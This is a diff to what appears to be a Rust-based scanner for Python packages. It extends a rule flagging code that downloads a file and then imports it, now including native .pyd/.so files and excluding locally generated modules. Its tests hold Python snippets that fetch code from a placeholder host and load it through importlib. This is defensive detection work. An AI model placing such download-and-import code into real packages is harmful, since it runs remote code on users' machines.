@@ -377,9 +377,31 @@ fn check_loads_saved_file(checker: &mut Checker, call: &ExprCall, qualname: &str
             Some(path),
         )
     } else if let Some(module) = imported_module_file(checker, call, qualname) {
-        // `importlib.import_module('_svc')` after writing a download to `…/_svc.py` on the
-        // path: the module runs the file it saved.
-        (module, None)
+        // `importlib.import_module('_svc')` after writing a download to `…/_svc.py` (or a
+        // native `_svc.pyd`/`.so`) on the path: the module runs the file it saved.
+        let endings: Vec<String> = ["py", "pyd", "so", "pyc"]
+            .iter()
+            .map(|extension| format!("{module}.{extension}"))
+            .collect();
+        // Only a download: generators write Python and import it by name as a matter of
+        // course (pyarmor's benchmark, code generators, test harnesses).
+        let Some(saved) = checker
+            .saved_file_ending(&endings)
+            .filter(|saved| saved.what != crate::walker::SavedFile::PYTHON_SOURCE)
+            .cloned()
+        else {
+            return;
+        };
+        let (message, severity) =
+            super::process_spawn::runs_saved_file(&saved, qualname, &module, checker.context());
+        checker.report(
+            &RULE,
+            call.range(),
+            message.replacen(" starts `", " loads as code `", 1),
+            severity,
+            vec!["exec", "runs-saved-file"],
+        );
+        return;
     } else {
         return;
     };
@@ -397,8 +419,8 @@ fn check_loads_saved_file(checker: &mut Checker, call: &ExprCall, qualname: &str
     );
 }
 
-/// `/name.py` for `importlib.import_module('name')` or `__import__('name')` of a constant
-/// module name (`/pkg/mod.py` for `pkg.mod`): the file such an import would load.
+/// `/name` for `importlib.import_module('name')` or `__import__('name')` of a constant module
+/// name (`/pkg/mod` for `pkg.mod`): the file such an import would load, less its extension.
 fn imported_module_file(checker: &Checker, call: &ExprCall, qualname: &str) -> Option<String> {
     if !matches!(qualname, "importlib.import_module" | "__import__") {
         return None;
@@ -409,7 +431,7 @@ fn imported_module_file(checker: &Checker, call: &ExprCall, qualname: &str) -> O
         && name
             .split('.')
             .all(|part| !part.is_empty() && part.chars().all(|c| c.is_alphanumeric() || c == '_'));
-    valid.then(|| format!("/{}.py", name.replace('.', "/")))
+    valid.then(|| format!("/{}", name.replace('.', "/")))
 }
 
 fn check_executed(
@@ -773,6 +795,10 @@ mod tests {
         // Loading a plugin file the package ships is what plugin systems do.
         let written = "import importlib, site, os, sys, urllib.request\np = os.path.join(site.getusersitepackages(), '_svc.py')\nwith open(p, 'wb') as f:\n    f.write(urllib.request.urlopen('https://x.example.invalid/svc.py').read())\nsys.path.append(os.path.dirname(p))\nimportlib.import_module('_svc')\n";
         assert!(max_severity("p/pkg/__init__.py", written, "WH110") >= 0.85);
+        let native = "import importlib, os, sys, urllib.request\nd = os.path.expanduser('~/.cache/x')\nurllib.request.urlretrieve('https://x.example.invalid/_fast.pyd', os.path.join(d, '_fast.pyd'))\nsys.path.insert(0, d)\nimportlib.import_module('_fast')\n";
+        assert!(max_severity("p/pkg/__init__.py", native, "WH110") >= 0.85);
+        let generated = "import importlib, sys\ndef bench():\n    with open('.bench/bfoo.py', 'w') as f:\n        f.write('def foo():\\n    return 1\\n')\n    sys.path.insert(0, '.bench')\n    return __import__('bfoo')\n";
+        assert!(max_severity("p/pkg/bench.py", generated, "WH110") < 0.3);
         let plain = "import importlib\nimportlib.import_module('json')\n";
         assert!(max_severity("p/pkg/__init__.py", plain, "WH110") < 0.1);
         let plugin = "import importlib.util\ndef load(path):\n    spec = importlib.util.spec_from_file_location('plugin', path)\n    return importlib.util.module_from_spec(spec)\n";
